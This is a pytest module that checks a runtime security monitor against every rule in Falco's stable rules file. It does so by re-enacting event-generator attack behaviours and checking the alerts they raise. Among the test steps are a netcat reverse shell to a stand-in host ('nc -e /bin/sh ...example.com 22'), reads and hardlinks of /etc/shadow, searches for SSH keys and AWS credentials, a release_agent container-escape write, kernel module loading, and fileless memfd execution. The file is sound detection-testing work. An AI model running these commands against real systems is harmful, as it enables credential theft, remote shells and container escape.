"""Every rule of Falco's stable rules file, fired by the behaviour of its event-generator action.

One `ringwatch run --rules falco_rules.yaml` (Falco's file, unmodified, alone) serves the
module. For each rule of the file, one test performs what falcosecurity/event-generator's
action for that rule does (events/syscall/*.go, redone in tests/falco_actions.py or with
the same commands), for real, then checks that exactly the rules Falco would raise for
it fired, for the processes of that action (a marker word in their command lines), with
output fields that say what happened. Rules about containers run their action inside a
real podman container (busybox image, the host's /usr bound read-only so that Debian's
python3, debugfs and ssh are there); one container is privileged, one is not.

A rule ringwatch skips on this host (a field it does not provide yet) skips its test
with ringwatch's own reason, read from `ringwatch rules list` against the running
instance; once the field exists the same test runs. Four rules have no event-generator
action (Terminal shell in container, Contact K8S API Server From Container, and two
whose actions live only in event-generator's history); their actions are described where
they are defined.

Beside them, benign look-alikes where Falco's exceptions decide: a shell parent exempts
a traversal read, `passwd` and a known shell command line are trusted, a server reading
a secret at startup is not "after startup", debugfs in an unprivileged container, a log
append without O_TRUNC. Each quiet check is followed by a sentinel alert on each ring
buffer lane: records reach userspace in order within a lane, so once the sentinels are
out the look-alike's events have been judged.

The monitor traces one cgroup (sensor.cgroups) holding this test process, so everything
it starts, and the containers (started under it with --cgroup-parent): other people's
storms on a shared machine stay out of the ring buffers.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.kernel_util import cgroup2_root, traced_scope
from tests.monitor_proc import REPO, RunningMonitor, read_jsonl
from tests.podman_util import (
    PODMAN,
    import_busybox_image,
    remove_container,
    remove_v1_cgroup_dirs,
    run_container,
)

pytestmark = pytest.mark.kernel

STABLE = Path(__file__).resolve().parent / "fixtures" / "falco" / "falco_rules.yaml"
ACTIONS = Path(__file__).resolve().parent / "falco_actions.py"
RULE_NAMES = [item["rule"] for item in yaml.safe_load(STABLE.read_text()) if "rule" in item]
# Debian's interpreter, the same file on the host and (bound) in the containers.
PY = "/usr/bin/python3"
IN_CTR_ACTIONS = "/rwtests/falco_actions.py"
IMAGE = "localhost/ringwatch-falco-actions:1"
# The Kubernetes API server's service address (the default ClusterIP) and its name, which a
# node resolves through the cluster's DNS; here ringwatch alone is given it through a
# private /etc/hosts (its own mount namespace), as Falco resolves fd.sip.name's operand.
K8S_API_IP = "10.96.0.1"
K8S_API_NAME = "kubernetes.default.svc.cluster.local"
# An address outside loopback and RFC 1918 (TEST-NET-3, routed nowhere): "outbound".
OUTBOUND_IP = "203.0.113.7"
SETTLE_TIMEOUT = 30

Alert = dict[str, Any]


class FalcoMonitor(RunningMonitor):
    """`ringwatch run` writing alerts only (stdout in Falco's shape, a file in ringwatch's),
    in a mount namespace of its own whose /etc/hosts names the K8S API server."""

    def __init__(self, workdir: Path, config: dict[str, Any], args: list[str], env: dict[str, str],
                 hosts: Path) -> None:
        super().__init__(workdir, config, args, env)
        self.hosts = hosts
        self.alerts_path = workdir / "alerts.jsonl"

    def command(self) -> list[str]:
        inner = [sys.executable, "-m", "monitor", "--log-json", "run", "--config", str(self.config_path),
                 *self.args]
        return ["unshare", "--mount", "--propagation", "private", "sh", "-c",
                'mount --bind "$0" /etc/hosts && exec "$@"', str(self.hosts), *inner]


@dataclass
class Bench:
    """What the tests share: the monitor, the containers, rule states, a slow action."""

    mon: FalcoMonitor
    work: Path
    privileged: str = ""
    plain: str = ""
    skipped: dict[str, str] = field(default_factory=dict)
    httpd: Path = Path()
    slow: dict[str, Any] = field(default_factory=dict)
    slow_marker: str = ""


def new_marker() -> str:
    return f"rwfa-{uuid.uuid4().hex[:10]}"


def rule_states(mon: FalcoMonitor) -> tuple[dict[str, str], dict[str, Any]]:
    """(skipped rule -> reason, rule -> live counters) from `ringwatch rules list --json`
    against the running instance's control socket."""
    out = subprocess.run(
        [sys.executable, "-m", "monitor", "rules", "list", "--json", "--no-default-rules",
         "--rules", str(STABLE), "--control-socket", str(mon.control_socket)],
        cwd=REPO, env={**os.environ, "RINGWATCH_RULES_D": "/nonexistent/rules.d"},
        check=True, capture_output=True, text=True, timeout=60).stdout
    rows = [json.loads(line) for line in out.splitlines()]
    skipped = {r["name"]: r["skipped"] for r in rows if r["enabled"] == "skipped"}
    live = {r["name"]: r.get("live") for r in rows if r["enabled"] != "skipped"}
    return skipped, live


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bench]:
    assert os.geteuid() == 0, "kernel tests need root"
    work = tmp_path_factory.mktemp("falco-actions")
    hosts = work / "hosts"
    hosts.write_text(f"127.0.0.1 localhost\n{K8S_API_IP} {K8S_API_NAME}\n")
    pin = Path(f"/sys/fs/bpf/ringwatch-falcoacts-{uuid.uuid4().hex[:8]}")
    with traced_scope("falco-actions") as scope:
        cfg = {
            "sensor": {"cgroups": [str(scope)]},
            "lineage": {"bpffs_dir": str(pin)},
            "control": {"socket": str(work / "control.sock")},
            "outputs": {"alerts": {"stdout_format": "falco", "journal": "never",
                                   "file": {"path": str(work / "alerts.jsonl")}}},
        }
        mon = FalcoMonitor(work, cfg, ["--no-default-rules", "--rules", str(STABLE)],
                           {"RINGWATCH_RULES_D": "/nonexistent/rules.d"}, hosts)
        b = Bench(mon, work)
        parent = "/" + str(scope.relative_to(cgroup2_root()))
        names = [f"rwfa-priv-{uuid.uuid4().hex[:6]}", f"rwfa-plain-{uuid.uuid4().hex[:6]}"]
        try:
            mon.start(timeout=180)
            loaded = mon.wait_log("rules_loaded")
            assert loaded["files"] == [str(STABLE)]
            b.skipped, live = rule_states(mon)
            # The running instance and `rules list` agree on what is skipped and why.
            assert loaded.get("skipped", {}) == b.skipped
            assert loaded["rules"] == len(RULE_NAMES) - len(b.skipped) == len(live)
            assert all(v is not None for v in live.values()), live  # the instance runs them

            # Falco's "after startup" needs a server process older than 5 s: started first,
            # it reads /etc/shadow while the other tests run.
            b.httpd = work / "bin" / "httpd"
            b.httpd.parent.mkdir()
            os.symlink(os.path.realpath(PY), b.httpd)
            b.slow_marker = new_marker()
            slow = subprocess.Popen([str(b.httpd), str(ACTIONS), "sleep_then_read", "6", "/etc/shadow",
                                     b.slow_marker], stdout=subprocess.PIPE, text=True)
            assert slow.stdout is not None
            b.slow = json.loads(slow.stdout.readline())

            image = import_busybox_image(work, IMAGE, applets=("sh", "sleep", "cat", "nc", "ls", "echo"),
                                         links={"lib": "usr/lib", "lib64": "usr/lib64", "sbin": "usr/sbin"})
            binds = ["-v", "/usr:/usr:ro", "-v", f"{ACTIONS.parent}:/rwtests:ro", "--cgroup-parent", parent]
            run_container(names[0], image, *binds, "--privileged")
            run_container(names[1], image, *binds)
            b.privileged, b.plain = names
            yield b
            slow.wait(timeout=30)
            assert mon.stop() == 0
        finally:
            for name in names:
                remove_container(name)
            mon.__exit__(None, None, None)
            shutil.rmtree(pin, ignore_errors=True)
            remove_v1_cgroup_dirs(parent)


# --- reading alerts ----------------------------------------------------------------------


def mine(alert: Alert, marker: str) -> bool:
    """The alert is about a process of the action: its or its parent's command line has
    the marker (children of an action, like the shell `httpd` spawns, keep it there)."""
    ev = alert.get("event") or {}
    return any(marker in str(ev.get(k) or "") for k in ("proc.cmdline", "proc.pcmdline", "proc.exe"))


def alerts_of(bench: Bench, marker: str) -> list[Alert]:
    return [a for a in read_jsonl(bench.mon.alerts_path) if mine(a, marker)]


def wait_alert(bench: Bench, rule: str, marker: str, timeout: float = SETTLE_TIMEOUT) -> Alert:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for a in alerts_of(bench, marker):
            if a["rule"] == rule:
                return a
        time.sleep(0.05)
    seen = [(a["rule"], a["output"][:200]) for a in alerts_of(bench, marker)]
    raise AssertionError(f"no {rule!r} alert for {marker} within {timeout}s; its alerts: {seen}")


def falco_twin(bench: Bench, alert: Alert) -> Alert:
    """The same alert as stdout carries it, in Falco's shape."""
    want = alert["output"]
    got = bench.mon.wait_for(lambda a: a.get("rule") == alert["rule"] and a["output"].endswith(want),
                             timeout=SETTLE_TIMEOUT, path=bench.mon.stdout_path)
    assert set(got) == {"time", "rule", "priority", "output", "output_fields", "hostname", "source", "tags"}
    return got


def settle(bench: Bench) -> None:
    """A sentinel alert on each lane: an exec (process lane) and an open (syscall lane).
    Each lane reaches userspace in order: earlier events of either kind are judged."""
    marker = new_marker()
    sdir = bench.work / marker
    sdir.mkdir()
    subprocess.run(["find", str(sdir), "-maxdepth", "1", "-iname", "id_rsa"], check=True)
    subprocess.run([PY, str(ACTIONS), "open_read", "/etc/shadow", marker], check=True, capture_output=True)
    wait_alert(bench, "Search Private Keys or Passwords", marker)
    wait_alert(bench, "Read sensitive file untrusted", marker)


def container_exec(bench: Bench, name: str, *argv: str, tty: bool = False,
                   check: bool = True) -> subprocess.CompletedProcess[str]:
    cmd = [*PODMAN, "exec", *(["-it"] if tty else []), name, *argv]
    if tty:
        # `podman exec -it` wants a terminal: script(1) gives it one, as a user's would be.
        cmd = ["script", "-qec", " ".join(f"'{c}'" for c in cmd), "/dev/null"]
    return subprocess.run(cmd, check=check, capture_output=True, text=True, timeout=60,
                          stdin=subprocess.DEVNULL)


def py_action(*args: str) -> dict[str, Any]:
    out = subprocess.run([PY, str(ACTIONS), *args], check=True, capture_output=True, text=True,
                         timeout=60).stdout
    return json.loads(out.splitlines()[-1])


# --- the actions, one per rule -----------------------------------------------------------
# Each performs the action with the marker in the command lines it creates and returns the
# check of the rule's alert: the rules that fire beside it (Falco raises them too) and the
# output fields that must say what happened.


@dataclass
class Expect:
    also: frozenset[str] = frozenset()
    fields: dict[str, Any] = field(default_factory=dict)
    pid: int | None = None  # the host pid that made the syscall, where the test knows it
    container: str = ""  # the container's name, for rules about containers


ActionFn = Callable[[Bench, str], Expect]
SENSITIVE_READ = "Read sensitive file untrusted"


def act_directory_traversal(b: Bench, m: str) -> Expect:
    # directory_traversal_monitored_file_read.go: os.Open("/etc/../etc/../etc/shadow").
    # The parent is pytest's interpreter, no shell (a shell parent is an exception).
    r = py_action("open_read", "/etc/../etc/../etc/shadow", m)
    return Expect(also=frozenset({SENSITIVE_READ}), pid=r["pid"],
                  fields={"fd.name": "/etc/shadow", "fd.nameraw": "/etc/../etc/../etc/shadow",
                          "proc.name": "python3", "evt.type": "openat"})


def act_trusted_after_startup(b: Bench, m: str) -> Expect:
    # read_sensitive_file_trusted_after_startup.go: itself run as `httpd` (a symlink),
    # sleeping 6 s, then opening /etc/shadow; started by the fixture, checked here.
    assert m  # this action's marker is the fixture's
    return Expect(also=frozenset({SENSITIVE_READ}), pid=b.slow["pid"],
                  fields={"fd.name": "/etc/shadow", "proc.name": "httpd", "evt.type": "openat"})


def act_read_sensitive_untrusted(b: Bench, m: str) -> Expect:
    # read_sensitive_file_untrusted.go: os.Open("/etc/shadow").
    r = py_action("open_read", "/etc/shadow", m)
    return Expect(pid=r["pid"], fields={"fd.name": "/etc/shadow", "proc.name": "python3"})


def act_run_shell_untrusted(b: Bench, m: str) -> Expect:
    # run_shell_untrusted.go: spawn itself as `httpd`, which runs `sh -c "ls > /dev/null"`.
    out = subprocess.run([str(b.httpd), str(ACTIONS), "run_shell", m], check=True, capture_output=True,
                         text=True, timeout=60).stdout
    r = json.loads(out)
    return Expect(pid=r["child"], fields={"proc.name": "sh", "proc.pname": "httpd",
                                          "proc.cmdline": "sh -c ls > /dev/null"})


def act_system_user_interactive(b: Bench, m: str) -> Expect:
    # system_user_interactive.go: runAsUser("daemon", "/bin/login"); login refuses (exit 1).
    p = subprocess.run(["/bin/login", m], user=1, group=1, capture_output=True, timeout=30,
                       stdin=subprocess.DEVNULL, check=False)
    assert p.returncode == 1, p
    return Expect(fields={"proc.name": "login", "user.name": "daemon", "user.uid": 1})


def act_terminal_shell_in_container(b: Bench, m: str) -> Expect:
    # No event-generator action: what "kubectl exec -it ... sh" does, `podman exec -it` of a
    # shell, on a terminal.
    container_exec(b, b.plain, "/bin/sh", "-c", "exit 0", m, tty=True)
    return Expect(container=b.plain, fields={"proc.name": "sh"})


def act_contact_k8s_api(b: Bench, m: str) -> Expect:
    # No event-generator action: a container process connecting to the API server's address
    # (the container has no network: the attempt is the behaviour).
    container_exec(b, b.plain, PY, IN_CTR_ACTIONS, "connect", K8S_API_IP, "443", m)
    return Expect(container=b.plain, fields={"evt.type": "connect", "fd.sip": K8S_API_IP, "fd.rport": 443})


def act_netcat_in_container(b: Bench, m: str) -> Expect:
    # netcat_remote_code_execution_in_container.go: `nc -e /bin/sh example.com 22` (the
    # marker is in the host name; nothing resolves without a network, as the Go one allows).
    container_exec(b, b.plain, "/bin/nc", "-e", "/bin/sh", f"{m}.example.com", "22", check=False)
    return Expect(container=b.plain, fields={"proc.name": "nc"})


def act_search_private_keys(b: Bench, m: str) -> Expect:
    # search_private_keys_or_passwords.go: find $TMPDIR -maxdepth 1 -iname id_rsa.
    d = b.work / m
    d.mkdir()
    subprocess.run(["find", str(d), "-maxdepth", "1", "-iname", "id_rsa"], check=True)
    return Expect(fields={"proc.name": "find"})


def act_clear_log(b: Bench, m: str) -> Expect:
    # clear_log_activities.go: O_CREAT|O_TRUNC|O_WRONLY of a temp dir's `syslog`.
    d = b.work / m
    d.mkdir()
    r = py_action("clear_log", str(d), m)
    return Expect(pid=r["pid"], fields={"fd.name": str(d / "syslog"), "proc.name": "python3"})


def act_remove_bulk_data(b: Bench, m: str) -> Expect:
    # remove_bulk_data_from_disk.go: write a temp file, `shred -u` it.
    f = b.work / f"falco-event-generator-syscall-RemoveBulkDataFromDisk-{m}"
    f.write_text("bulk data content")
    subprocess.run(["shred", "-u", str(f)], check=True)
    return Expect(fields={"proc.name": "shred"})


def act_symlink_sensitive(b: Bench, m: str) -> Expect:
    # create_symlink_over_sensitive_files.go: `ln -s /etc DIR/etc_link`, then read it.
    d = b.work / m
    d.mkdir()
    subprocess.run(["ln", "-s", "/etc", str(d / "etc_link")], check=True)
    os.listdir(d / "etc_link")
    return Expect(fields={"evt.arg.target": "/etc", "evt.arg.linkpath": str(d / "etc_link"),
                          "proc.name": "ln"})


def act_hardlink_sensitive(b: Bench, m: str) -> Expect:
    # create_hardlink_over_sensitive_files.go: `ln -v /etc/shadow DIR/shadow_link`, then read it.
    d = b.work / m
    d.mkdir()
    link = d / "shadow_link"
    subprocess.run(["ln", "-v", "/etc/shadow", str(link)], check=True, capture_output=True)
    try:
        link.read_bytes()
    finally:
        link.unlink()  # a second name of /etc/shadow must not outlive the test
    return Expect(fields={"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": str(link), "proc.name": "ln"})


def act_packet_socket(b: Bench, m: str) -> Expect:
    # packet_socket_created_in_container.go: socket(AF_PACKET, SOCK_RAW, ETH_P_ALL).
    container_exec(b, b.privileged, PY, IN_CTR_ACTIONS, "packet_socket", m)
    return Expect(container=b.privileged, fields={"evt.type": "socket", "proc.name": "python3"})


def act_redirect_stdout(b: Bench, m: str) -> Expect:
    # redirect_stdout_stdin_to_network_connection_in_container.go (event-generator's
    # history): a loopback TCP connection dup2'ed onto stdout.
    container_exec(b, b.plain, PY, IN_CTR_ACTIONS, "redirect_stdout", m)
    return Expect(container=b.plain, fields={"evt.type": "dup2", "fd.type": "ipv4", "proc.name": "python3"})


def act_kernel_module(b: Bench, m: str) -> Expect:
    # linux_kernel_module_injection.go (history): insmod from a privileged container;
    # here init_module(2) of bytes that are no module (the kernel refuses; the attempt counts).
    container_exec(b, b.privileged, PY, IN_CTR_ACTIONS, "module_load", m)
    return Expect(container=b.privileged, fields={"evt.type": "init_module", "proc.name": "python3"})


def act_debugfs_privileged(b: Bench, m: str) -> Expect:
    # debugfs_launched_in_privilleged_container.go: `debugfs -V` (the Go action runs it in new
    # mount and user namespaces; the exec in the privileged container is what the rule sees).
    container_exec(b, b.privileged, "/usr/sbin/debugfs", "-V", m)
    return Expect(container=b.privileged, fields={"proc.name": "debugfs"})


def act_release_agent(b: Bench, m: str) -> Expect:
    # detect_release_agent_file_container_escapes.go: as root with CAP_SYS_ADMIN,
    # sh -c "echo 'hello world' > release_agent" (in the working directory, here /).
    container_exec(b, b.privileged, "/bin/sh", "-c", "echo 'hello world' > release_agent", m)
    return Expect(container=b.privileged, fields={"fd.name": "/release_agent", "proc.name": "sh"})


def act_ptrace_attach(b: Bench, m: str) -> Expect:
    # ptrace_attached_to_process.go: start `sleep 3600`, PTRACE_ATTACH to it.
    r = py_action("ptrace_attach", m)
    assert r["ret"] == 0, r
    return Expect(pid=r["pid"], fields={"evt.type": "ptrace", "proc.name": "python3"})


def act_ptrace_traceme(b: Bench, m: str) -> Expect:
    # ptrace_anti_debug_attempt.go: `sleep 3600` started with Ptrace: true (PTRACE_TRACEME
    # in the child before its exec).
    # The call is made before the exec: by the image that was (python3), not by sleep.
    r = py_action("ptrace_traceme", m)
    return Expect(pid=r["child"], fields={"evt.type": "ptrace", "proc.name": "python3",
                                          "proc.exepath": os.path.realpath(PY)})


def act_find_aws_credentials(b: Bench, m: str) -> Expect:
    # find_aws_credentials.go: find $TMPDIR -maxdepth 1 -iname .aws/credentials.
    d = b.work / m
    d.mkdir()
    subprocess.run(["find", str(d), "-maxdepth", "1", "-iname", ".aws/credentials"], check=True,
                   capture_output=True)
    return Expect(fields={"proc.name": "find"})


def act_exec_dev_shm(b: Bench, m: str) -> Expect:
    # execution_from_dev_shm.go: write /dev/shm/falco-event-generator-...sh, `sh -c FILE`.
    script = Path(f"/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-{m}.sh")
    script.write_text("#!/bin/sh\n\necho 'hello world'\n")
    script.chmod(0o755)
    try:
        subprocess.run(["sh", "-c", str(script)], check=True, capture_output=True)
    finally:
        script.unlink()
    return Expect(fields={"evt.type": "execve"})


def act_drop_and_execute(b: Bench, m: str) -> Expect:
    # drop_and_execute_new_binary_in_container.go: copy ls into /bin (the container's upper
    # layer) and run the copy.
    container_exec(b, b.plain, PY, IN_CTR_ACTIONS, "drop_and_exec", f"x{m}")
    dropped = f"/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-x{m}"
    return Expect(container=b.plain, fields={"evt.type": "execve", "proc.exepath": dropped})


def act_ssh_non_standard_port(b: Bench, m: str) -> Expect:
    # disallowed_ssh_connection_non_standard_port.go: `ssh user@example.com -p 443`; here an
    # address outside the private ranges (no DNS here), connect attempt bounded by a timeout.
    subprocess.run(["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=1", "-o", "StrictHostKeyChecking=no",
                    "-p", "443", f"{m}@{OUTBOUND_IP}"], capture_output=True, timeout=30, check=False,
                   stdin=subprocess.DEVNULL)
    return Expect(fields={"evt.type": "connect", "fd.sip": OUTBOUND_IP, "fd.rport": 443, "proc.name": "ssh"})


def act_memfd_exec(b: Bench, m: str) -> Expect:
    # fileless_execution_via_memfd_create.go: its own binary into memfd_create("program"),
    # run from /proc/self/fd/N.
    r = py_action("memfd_exec", m)
    assert r["status"] == 0, r
    return Expect(pid=r["child"], fields={"evt.type": "execve", "proc.is_exe_from_memfd": True})


RULE_ACTIONS: dict[str, ActionFn] = {
    "Directory traversal monitored file read": act_directory_traversal,
    "Read sensitive file trusted after startup": act_trusted_after_startup,
    "Read sensitive file untrusted": act_read_sensitive_untrusted,
    "Run shell untrusted": act_run_shell_untrusted,
    "System user interactive": act_system_user_interactive,
    "Terminal shell in container": act_terminal_shell_in_container,
    "Contact K8S API Server From Container": act_contact_k8s_api,
    "Netcat Remote Code Execution in Container": act_netcat_in_container,
    "Search Private Keys or Passwords": act_search_private_keys,
    "Clear Log Activities": act_clear_log,
    "Remove Bulk Data from Disk": act_remove_bulk_data,
    "Create Symlink Over Sensitive Files": act_symlink_sensitive,
    "Create Hardlink Over Sensitive Files": act_hardlink_sensitive,
    "Packet socket created in container": act_packet_socket,
    "Redirect STDOUT/STDIN to Network Connection in Container": act_redirect_stdout,
    "Linux Kernel Module Injection Detected": act_kernel_module,
    "Debugfs Launched in Privileged Container": act_debugfs_privileged,
    "Detect release_agent File Container Escapes": act_release_agent,
    "PTRACE attached to process": act_ptrace_attach,
    "PTRACE anti-debug attempt": act_ptrace_traceme,
    "Find AWS Credentials": act_find_aws_credentials,
    "Execution from /dev/shm": act_exec_dev_shm,
    "Drop and execute new binary in container": act_drop_and_execute,
    "Disallowed SSH Connection Non Standard Port": act_ssh_non_standard_port,
    "Fileless execution via memfd_create": act_memfd_exec,
}


def test_every_rule_of_the_file_has_an_action() -> None:
    assert sorted(RULE_ACTIONS) == sorted(RULE_NAMES)


def container_id(name: str) -> str:
    return subprocess.run([*PODMAN, "inspect", "-f", "{{.Id}}", name], check=True, capture_output=True,
                          text=True, timeout=60).stdout.strip()


SLOW_RULE = "Read sensitive file trusted after startup"


# The slow action's rule last: by then its process is past Falco's 5 s.
@pytest.mark.parametrize("rule", sorted(RULE_NAMES, key=lambda r: r == SLOW_RULE))
def test_rule_fires_for_its_action(bench: Bench, rule: str) -> None:
    if rule in bench.skipped:
        pytest.skip(f"ringwatch skips this rule here: {bench.skipped[rule]}")
    marker = bench.slow_marker if rule == SLOW_RULE else new_marker()
    expect = RULE_ACTIONS[rule](bench, marker)
    alert = wait_alert(bench, rule, marker)
    settle(bench)
    fired = sorted({a["rule"] for a in alerts_of(bench, marker)})
    assert fired == sorted({rule, *expect.also})
    ev = alert["event"]
    for key, want in expect.fields.items():
        assert ev.get(key) == want, (key, ev.get(key), want)
    if expect.pid is not None:
        assert alert["process"]["pid"] == expect.pid
    if expect.container:
        assert ev["container.name"] == expect.container
        assert ev["container.full_id"] == container_id(expect.container)
    else:
        assert ev["container.id"] == "host"
    # The same alert on stdout in Falco's shape; its output text ends with the command line.
    twin = falco_twin(bench, alert)
    assert twin["output_fields"].get("proc.cmdline", ev.get("proc.cmdline")) == ev.get("proc.cmdline")
    assert "maturity_stable" in twin["tags"] and twin["source"] == "syscall"


# --- benign look-alikes: Falco's exceptions and conditions keep these quiet ---------------


def rules_for(bench: Bench, marker: str, **event: Any) -> list[str]:
    """Rules fired for the marker's processes whose event has all the given fields."""
    return sorted(a["rule"] for a in alerts_of(bench, marker)
                  if all(a["event"].get(k) == v for k, v in event.items()))


def test_a_shell_parent_exempts_the_traversal_read(bench: Bench) -> None:
    """`not proc.pname in (shell_binaries)`: the same traversal open, with sh as the parent,
    is only the plain sensitive read."""
    m = new_marker()
    # the trailing `:` keeps sh from exec'ing python in its place
    subprocess.run(["sh", "-c", f"{PY} {ACTIONS} open_read /etc/../etc/../etc/shadow; : {m}"], check=True,
                   capture_output=True)
    alert = wait_alert(bench, SENSITIVE_READ, m)
    settle(bench)
    assert alert["event"]["proc.pname"] == "sh"
    assert alert["event"]["fd.nameraw"] == "/etc/../etc/../etc/shadow"
    assert rules_for(bench, m) == [SENSITIVE_READ]


def test_passwd_reading_shadow_is_trusted(bench: Bench) -> None:
    """passwd is in user_mgmt_binaries: its read of /etc/shadow is no alert; cat's, beside
    it under the same shell, is."""
    m = new_marker()
    subprocess.run(["sh", "-c", f"passwd -S root >/dev/null; cat /etc/shadow >/dev/null; : {m}"], check=True)
    wait_alert(bench, SENSITIVE_READ, m)
    settle(bench)
    assert rules_for(bench, m, **{"proc.name": "cat"}) == [SENSITIVE_READ]
    assert rules_for(bench, m, **{"proc.name": "passwd"}) == []


def test_a_known_shell_command_line_is_trusted(bench: Bench) -> None:
    """known_shell_spawn_cmdlines: `sh -c uname -a 2>&1` under httpd is expected; the same
    httpd's `sh -c ls > /dev/null` afterwards is not."""
    m = new_marker()
    subprocess.run([str(bench.httpd), str(ACTIONS), "run_shell_cmd", "uname -a 2>&1", m], check=True,
                   capture_output=True)
    subprocess.run([str(bench.httpd), str(ACTIONS), "run_shell", m], check=True, capture_output=True)
    wait_alert(bench, "Run shell untrusted", m)
    settle(bench)
    assert rules_for(bench, m, **{"proc.cmdline": "sh -c ls > /dev/null"}) == ["Run shell untrusted"]
    assert rules_for(bench, m, **{"proc.cmdline": "sh -c uname -a 2>&1"}) == []


def test_a_server_reading_a_secret_at_startup_is_not_after_startup(bench: Bench) -> None:
    """proc_is_new (proc.duration <= 5 s): httpd opening /etc/shadow at once raises only
    the untrusted-read rule."""
    m = new_marker()
    subprocess.run([str(bench.httpd), str(ACTIONS), "open_read", "/etc/shadow", m], check=True,
                   capture_output=True)
    alert = wait_alert(bench, SENSITIVE_READ, m)
    settle(bench)
    assert alert["event"]["proc.name"] == "httpd"
    assert alert["event"]["proc.duration"] < 5_000_000_000
    assert rules_for(bench, m) == [SENSITIVE_READ]


def test_debugfs_in_an_unprivileged_container_is_quiet(bench: Bench) -> None:
    m = new_marker()
    out = container_exec(bench, bench.plain, "/usr/sbin/debugfs", "-V", m)
    assert "debugfs" in out.stdout + out.stderr
    settle(bench)
    assert rules_for(bench, m) == []


def test_a_log_append_without_truncation_is_quiet(bench: Bench) -> None:
    m = new_marker()
    d = bench.work / m
    d.mkdir()
    py_action("write_file", str(d / "syslog"), m)
    assert (d / "syslog").exists()
    settle(bench)
    assert rules_for(bench, m) == []


def test_a_parent_is_judged_by_the_image_it_just_exec_ed(bench: Bench) -> None:
    """`sh -c 'exec python3 ...'`: the shell becomes python3, which forks a child that reads
    /etc/shadow by a traversal path. The child's parent is python3, no shell, so the
    traversal rule fires, every time: the child's open (syscall lane) must not be judged
    before its parent's exec (process lane) has reached the lineage."""
    markers = [new_marker() for _ in range(15)]
    for m in markers:
        subprocess.run(["sh", "-c", f"exec {PY} {ACTIONS} fork_open /etc/../etc/../etc/shadow {m}"],
                       check=True, capture_output=True)
    settle(bench)
    pnames = {m: sorted({a["event"]["proc.pname"] for a in alerts_of(bench, m)}) for m in markers}
    fired = {m: rules_for(bench, m) for m in markers}
    assert all(p == ["python3"] for p in pnames.values()), pnames
    both = sorted(["Directory traversal monitored file read", SENSITIVE_READ])
    assert all(f == both for f in fired.values()), fired
